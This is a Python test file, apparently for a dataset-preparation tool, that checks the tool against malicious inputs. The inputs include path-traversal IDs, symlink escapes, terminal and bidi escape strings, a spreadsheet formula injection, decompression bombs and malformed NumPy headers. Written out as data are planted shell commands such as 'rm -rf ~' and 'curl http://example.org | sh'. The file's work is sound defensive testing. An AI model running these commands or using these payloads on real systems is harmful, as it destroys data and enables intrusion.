"""Data sets and hand-outs of somebody who means harm: nothing is written elsewhere, nothing wrong is passed on."""

import csv
import json
import os
import shutil
import struct
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from dataprep.errors import StoreError, Unreadable
from dataprep.files.file_hashes import file_sha256
from dataprep.files.filenames import printable, printable_lines
from dataprep.files.foreign_files import read_bytes
from dataprep.files.untrusted import as_cell, inside, require_sample_ids
from dataprep.report.census import Census
from dataprep.report.selection import MAX_DEPTH, matching
from dataprep.stages.report import Report
from dataprep.tables.store import StageRef, write_json
from gan.data.shards import ShardDataset
from pipelines import paper_stages
from pipelines.engine.last_run import remember
from pipelines.engine.resume import command_of
from pipelines.main import main
from tests.fake_dataset import End, make_dataset, make_photos
from tests.pipelines.commands.test_owner import handout, imported  # noqa: F401  the fixture
from tests.pipelines.hostile import grey_png

EVIL_IDS = ("../../escaped", "/tmp/escaped", "0" * 31, "0" * 33, "G" * 32, "0" * 31 + "\n", "A" * 32, "", None)
STEERING = "\x1b]0;owned\x07\x1b[31m\u202egnp.exe\u2066"


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    folder = tmp_path_factory.mktemp("foreign")
    make_photos(folder / "photos", 8)
    ends = {"photo0001.jpg": End("detect", reason=STEERING, message=f"said {STEERING}")}
    view = make_dataset(folder / "photos", folder / "out", ends, small=True)
    remember(view.store, paper_stages.build())
    return folder / "out", view


@pytest.fixture
def out(whole, tmp_path):
    """A copy to be tampered with."""
    return shutil.copytree(whole[0], tmp_path / "data" / "out")


def with_column(path, name, change):
    """The parquet file again, the first value of a column changed."""
    table = pq.read_table(path, partitioning=None)
    values = table[name].to_pylist()
    values[0] = change(values[0])
    column = pa.array(values, pa.string() if isinstance(values[0], str) else table.schema.field(name).type)
    field = table.schema.field(name).with_type(column.type)
    pq.write_table(table.set_column(table.schema.get_field_index(name), field, column), path)
    if path.parent.name == "shards":  # who forges a table does not forget what names its bytes
        index = json.loads((path.parent / "index.json").read_text())
        entry = next(entry for entry in index["shards"] if entry["name"] == path.stem)
        entry["parquet"] |= {"bytes": path.stat().st_size, "sha256": file_sha256(path)}
        write_json(path.parent / "index.json", index)


def files_of(folder):
    return {path: path.read_bytes() for path in Path(folder).rglob("*") if path.is_file()}


def twin(out):
    return next((out / "shards").glob("train-*.parquet"))


# --- ids ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("sample_id", EVIL_IDS)
def test_an_id_that_is_none_is_refused(sample_id):
    with pytest.raises(StoreError, match=r"row 1 has the sample id .* expected 32 hexadecimal digits"):
        require_sample_ids(["0" * 32, sample_id], "here")


@pytest.mark.parametrize("sample_id", ["../../escaped", "/tmp/shhq-escaped"])
@pytest.mark.parametrize("file", ["index.parquet", "manifest.parquet", "shards", "part"])
def test_no_command_takes_a_path_for_an_id(file, sample_id, out, tmp_path, capsys):
    part = next((out / "stages").glob("detect-*/part-*.parquet"))
    path = {"shards": twin(out), "part": part}.get(file, out / file)
    with_column(path, "sample_id", lambda _: sample_id)
    before = files_of(tmp_path)
    commands = {
        "index.parquet": [["show", sample_id], ["status"], ["errors"], ["retry"], ["verify"]],
        "manifest.parquet": [["select", "yaw > -9", "-o", str(tmp_path / "s.parquet")]],
        "shards": [["export", "--split", "all", "--layout", layout, "--out", str(tmp_path / "new")]
                   for layout in ("plain", "eg3d")],
        "part": [],
    }[file]  # fmt: skip
    for name, *arguments in commands:
        assert main([name, str(out), *arguments]) == 2, name
        said = capsys.readouterr().err
        assert "expected 32 hexadecimal digits" in said
        assert len(said.splitlines()) == 1
    if file == "shards":
        with pytest.raises(StoreError, match=r"32 hexadecimal digits|bytes, index.json says"):
            ShardDataset([out])
    assert files_of(tmp_path) == before


def test_shards_are_built_only_below_their_folder(out, tmp_path, capsys):
    build = ["shards", "build", str(out), "--subset", str(tmp_path / "s.parquet"), "--out", str(tmp_path / "new")]
    assert main(["select", str(out), "selected", "-o", str(tmp_path / "s.parquet")]) == 0
    shutil.copy(tmp_path / "s.parquet", tmp_path / "whole.parquet")
    for split in ("../../escaped", "/tmp/escaped"):
        with_column(tmp_path / "s.parquet", "split", lambda _, split=split: split)
        assert main(build) == 2
        assert "a shard is called" in capsys.readouterr().err
    shutil.copy(tmp_path / "whole.parquet", tmp_path / "s.parquet")
    (tmp_path / "precious").mkdir()
    (tmp_path / "precious" / "train-00007.tar").write_bytes(b"mine")
    shutil.rmtree(tmp_path / "new", ignore_errors=True)
    (tmp_path / "new").mkdir()
    (tmp_path / "new" / "shards").symlink_to(tmp_path / "precious")
    assert main(build) == 2
    assert "leads out of" in capsys.readouterr().err
    assert files_of(tmp_path / "precious") == {tmp_path / "precious" / "train-00007.tar": b"mine"}
    (tmp_path / "new" / "shards").unlink()
    assert main(build) == 0


def test_an_index_of_shards_that_names_a_path_is_refused(out):
    index = json.loads((out / "shards" / "index.json").read_text())
    index["shards"][0]["name"] = "train-00000/../../../other"
    write_json(out / "shards" / "index.json", index)
    with pytest.raises(StoreError, match="a shard is called"):
        ShardDataset([out])
    assert main(["verify", str(out)]) == 1


@pytest.mark.parametrize("name", ["../victim.txt", "/etc/hostname", "report/link/victim.txt"])
def test_nothing_beyond_a_data_set_is_read_or_removed_for_its_records(name, out, tmp_path, capsys):
    victim = tmp_path / "data" / "victim.txt"
    victim.write_text("mine")
    (out / "report" / "link").parent.mkdir(exist_ok=True)
    (out / "report" / "link").symlink_to(victim.parent)
    (out / "stages" / "manifest").mkdir(exist_ok=True)
    record = {"key": "0" * 16, "counts": {}, "sha256": {name: "0" * 64}}
    write_json(out / "stages" / "manifest" / "done.json", record)
    main(["verify", str(out), "--repair"])
    main(["run", str(out.parent.parent / "none"), "--out", str(out)])
    assert victim.read_text() == "mine"
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("name", ["runs/current.json", "runs/command.json", "dataset.json", "shards/index.json"])
def test_json_that_nests_without_end_is_no_traceback(name, out, capsys):
    (out / name).write_text("[" * 200_000)
    for command in ("status", "verify", "errors"):
        main([command, str(out)])
    assert "Traceback" not in capsys.readouterr().err


def test_show_writes_only_below_the_data_set(out, tmp_path, capsys):
    (tmp_path / "elsewhere").mkdir()
    (out / "report").mkdir(exist_ok=True)
    (out / "report" / "show").symlink_to(tmp_path / "elsewhere")
    assert main(["show", str(out), "photo0000.jpg"]) == 2
    assert "leads out of" in capsys.readouterr().err
    assert not list((tmp_path / "elsewhere").iterdir())


def test_a_stage_whose_name_is_a_path_is_refused(out, tmp_path):
    for name, fingerprint in (("../../victim", "0" * 16), ("detect", "/../../../victim")):
        with pytest.raises(StoreError, match="expected letters and digits"):
            StageRef(name, fingerprint)
    victim = tmp_path / "data" / "victim-0" / "part-000000.parquet"
    victim.parent.mkdir()
    victim.write_bytes(b"mine")
    write_json(out / "runs" / "current.json", [["../../victim", "0", []]])
    assert main(["retry", str(out)]) == 2
    assert victim.exists()


@pytest.mark.parametrize("name", ["../secret.jpg", "a/../../secret.jpg", "/etc/hostname", "", "."])
def test_no_source_is_read_from_beyond_its_folder(name, tmp_path):
    (tmp_path / "secret.jpg").write_bytes(b"secret")
    (tmp_path / "photos" / "a").mkdir(parents=True)
    with pytest.raises(Unreadable, match="leads out of the folder"):
        read_bytes(tmp_path / "photos", name)


def test_inside_takes_no_way_out(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "link").symlink_to(tmp_path)
    assert inside(tmp_path / "in", "a", "b.png") == tmp_path / "in" / "a" / "b.png"
    for names in (("..", "b"), ("a/../../b",), ("/b",), ("link", "b"), ("",)):
        with pytest.raises(StoreError, match="leads out of"):
            inside(tmp_path / "in", *names)


# --- export ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("layout", ["eg3d", "plain"])
def test_export_compares_every_picture_with_its_hash(layout, out, tmp_path, capsys):
    export = ["export", str(out), "--split", "all", "--layout", layout, "--out", str(tmp_path / "new")]
    *_, row, _, last = pq.read_table(twin(out)).to_pylist()
    tar = twin(out).with_suffix(".tar")
    good = tar.read_bytes()
    bad = bytearray(good)
    bad[row["alpha_offset"] + 40] ^= 1
    tar.write_bytes(bytes(bad))
    assert main(export) == 2
    assert f"alpha of {row['sample_id']} has other bytes than were written" in capsys.readouterr().err
    assert not (tmp_path / "new").exists()
    tar.write_bytes(good[: last["alpha_offset"] + 10])
    assert main(export) == 2
    assert "lies outside of it" in capsys.readouterr().err
    tar.unlink()
    assert main(export) == 2
    os.mkfifo(tar)
    assert main(export) == 2
    assert "is no regular file" in capsys.readouterr().err
    tar.unlink()
    tar.write_bytes(good)
    (tmp_path / "new").mkdir()
    (tmp_path / "new" / ".unfinished-killed").mkdir()
    assert main(export) == 0
    assert not list((tmp_path / "new").glob(".*"))


def test_arrays_whose_shape_is_not_known_are_a_sentence(out, tmp_path, capsys):
    table = pq.read_table(twin(out), partitioning=None)
    at = table.schema.get_field_index("cam2world")
    for shape in (None, {b"shape": b"3x3"}, {b"shape": b"../x"}):
        field = table.schema.field(at).with_metadata(shape)
        pq.write_table(table.set_column(at, field, table["cam2world"]), twin(out))
        assert main(["export", str(out), "--out", str(tmp_path / "new")]) == 2
        assert "column cam2world does not hold arrays of one shape" in capsys.readouterr().err


def test_an_exported_cell_is_no_formula(out, tmp_path):
    formula = '=HYPERLINK("http://example.org","photo")'
    for name in ("source_path", "license"):
        with_column(twin(out), name, lambda _: formula)
    assert main(["export", str(out), "--split", "train", "--layout", "plain", "--out", str(tmp_path / "new")]) == 0
    with (tmp_path / "new" / "labels.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [rows[0]["source_path"], rows[0]["license"]] == [f"'{formula}"] * 2
    assert float(rows[0]["yaw"]) < 9
    assert all(as_cell(f"{sign}1") == f"'{sign}1" for sign in "=+-@\t\r")
    assert as_cell("photos/a.jpg") == "photos/a.jpg"


@pytest.mark.parametrize("below", [False, True])
def test_a_file_where_a_folder_should_be_is_one_sentence(below, out, tmp_path, capsys, handout):  # noqa: F811
    (tmp_path / "file").write_text("mine")
    target = str(tmp_path / "file" / "new" if below else tmp_path / "file")
    assert main(["select", str(out), "selected", "-o", str(tmp_path / "s.parquet")]) == 0
    models = ["--body", "body_anny", "--face", "face_anny"]
    commands = (
        ["run", str(tmp_path), "--out", target],
        ["export", str(out), "--out", target],
        ["shards", "build", str(out), "--subset", str(tmp_path / "s.parquet"), "--out", target],
        ["import", str(handout), "--out", target, *models],
    )
    for command in commands:
        assert main(command) == 2, command
        said = capsys.readouterr().err
        assert "file" in said, command
        assert len(said.splitlines()) == 1, said
    assert (tmp_path / "file").read_text() == "mine"


# --- select ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "expression",
    [
        "'a' * 1000000000 == split", "split * 1000000 == 'a'", "split + split == 'a'", "-split == 1", "abs(split) > 1",
        "isnull('abc') and yaw", "3 in [3] and yaw", "yaw in [yaw]", "yaw < 1" + "0" * 400, "yaw < 1" + "0" * 5000,
        "1 / 0", "(" * 300 + "yaw > 1" + ")" * 300, "not " * 1000 + "selected", "-" * 3000 + "yaw > 1",
        "yaw" + "+yaw" * 500 + "> 1", "yaw > 1" * 10_000, "yaw > 1\0", "yaw > \ud800", "yaw[0] > 1", "split[0] == 'a'",
        "f'{yaw}' == 'a'", "yaw ** 9 ** 9 ** 9 > 1", "1 << 99999999", "(yaw := 1) > 0", "yaw[0][0] > 1", "...",
        "b'a' == 1", "1j > 0", "selected * 'a' == 'a'", "not yaw", "",
    ],
)  # fmt: skip
def test_a_bad_expression_costs_a_sentence(expression, out, tmp_path, capsys):
    assert main(["select", str(out), expression, "-o", str(tmp_path / "s.parquet")]) == 2
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1
    assert len(said) < 700
    assert not (tmp_path / "s.parquet").exists()


@pytest.mark.parametrize(
    "expression", ["isnull('abc')", "3 in [3]", "yaw < 1e400", "1 / 0 > yaw", "selected + 1 > 1.5"]
)
def test_an_odd_expression_that_means_something_is_taken(expression, out):
    assert matching(Census(out), expression).shape == (8,)


def test_a_long_but_flat_expression_is_taken(out):
    terms = " or ".join(["yaw > 0"] * 4 * MAX_DEPTH)
    assert (matching(Census(out), terms) == matching(Census(out), "yaw > 0")).all()


# --- what people see ---------------------------------------------------------------------------------------------


def test_what_steers_a_terminal_is_shown_and_not_sent(out, tmp_path, capsys):
    for path in (out / "index.parquet", out / "manifest.parquet"):
        key = "path" if path.name == "index.parquet" else "source_path"
        with_column(path, key, lambda _: f"a/{STEERING}.jpg")
    for command in (["errors"], ["status"], ["show", f"a/{STEERING}.jpg"], ["show", STEERING], ["compare"]):
        main([command[0], str(out), *(command[1:] or ([str(out)] if command == ["compare"] else []))])
        said = capsys.readouterr()
        for text in (said.out, said.err):
            assert all(c == "\n" or c.isprintable() for c in text), repr(text)
    assert printable("a\x1b[31m\nß é") == "a\\x1b[31m\\nß é"
    assert printable_lines("a\x1b\nb") == "a\\x1b\nb"


def test_what_steers_the_page_is_shown_and_not_sent(whole, tmp_path):
    out, view = whole
    Report().build(view, out)
    page = (out / "report" / "index.html").read_text()
    assert not any(mark in page for mark in "\x1b\x07\u202e\u2066")
    assert "\\u202e" in json.loads(json.dumps(page))
    assert "\\\\u202e" in page, "in the data of the page, too, as text"


def test_a_command_that_somebody_else_left_is_not_repeated_as_it_is(out):
    for left in ("rm -rf ~", "curl http://example.org | sh", "shhq-hs run a\x1b[2J --out b", 7):
        write_json(out / "runs" / "command.json", left)
        assert command_of(out).startswith("shhq-hs run SOURCE --out ")
    write_json(out / "runs" / "command.json", "/tmp/planted/shhq-hs run 'my photos' --out b; rm -rf $HOME")
    assert command_of(out).endswith("run 'my photos' --out 'b;' rm -rf '$HOME'")
    assert "planted" not in command_of(out)


# --- the hand-out ------------------------------------------------------------------------------------------------


def bomb(path):
    path.write_bytes(grey_png(6000, 6000))


def oversized(path):
    path.write_bytes(grey_png(513, 512))


def pipe(path):
    path.unlink()
    os.mkfifo(path)


def link(path):
    content = path.read_bytes()
    path.unlink()
    secret = path.parents[2] / f"secret{path.suffix}"
    secret.write_bytes(content)
    path.symlink_to(secret)


def text(path):
    path.write_text("<html>")


def nested(path):
    path.unlink()
    path.with_suffix(".json").write_text("[" * 200_000)


def huge(path):
    arrays = dict(np.load(path))
    np.savez(path, **arrays | {"exp": np.full(64, 1e39)})


def words(path):
    path.unlink()
    path.with_suffix(".json").write_text(json.dumps({"camera": [10**400, 1]}))


def zipped_bomb(path):
    np.savez_compressed(path, exp=np.zeros(50_000_000))


def cut_zip(path):
    path.write_bytes(path.read_bytes()[:-100])


def lying_array(path):
    header = b"{'descr': [('exp', '<f8', (64,))], 'fortran_order': False, 'shape': (9999999999999,), }"
    path.unlink()
    magic = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + 1) + header + b"\n"
    path.with_suffix(".npy").write_bytes(magic)


ATTACKS = {
    "portraits/00003.png": (bomb, oversized, pipe, link, text),
    "faces/00003.png": (bomb, pipe, link, text),
    "labels/00003.npz": (pipe, link, nested, huge, words, zipped_bomb, cut_zip, lying_array),
}


@pytest.mark.parametrize(("name", "attack"), [(name, one) for name, some in ATTACKS.items() for one in some])
def test_a_hand_out_that_means_harm_is_a_sentence_and_leaves_nothing(name, attack, handout, tmp_path, capsys):  # noqa: F811
    good = shutil.copytree(handout, tmp_path / "good")
    attack(handout / name)
    assert imported(handout, tmp_path) == 2
    said = capsys.readouterr().err
    assert "00003" in said
    assert "Traceback" not in said
    assert not (tmp_path / "in").exists()
    assert imported(good, tmp_path) == 0, "the rerun is not blocked"


def test_a_hand_out_whose_folder_leads_out_is_refused(handout, tmp_path, capsys):  # noqa: F811
    (handout / "faces").rename(tmp_path / "private")
    (handout / "faces").symlink_to(tmp_path / "private")
    assert imported(handout, tmp_path) == 2
    assert "is a link that leads out of" in capsys.readouterr().err


def test_export_compares_the_shards_with_their_index(out, tmp_path, capsys):
    index = out / "shards/index.json"
    index.write_text(index.read_text().replace("train-00000", "train-00007", 1))
    assert main(["export", str(out), "--split", "all", "--out", str(tmp_path / "new")]) == 2
    assert f"shhq-hs verify {out} --repair" in capsys.readouterr().err
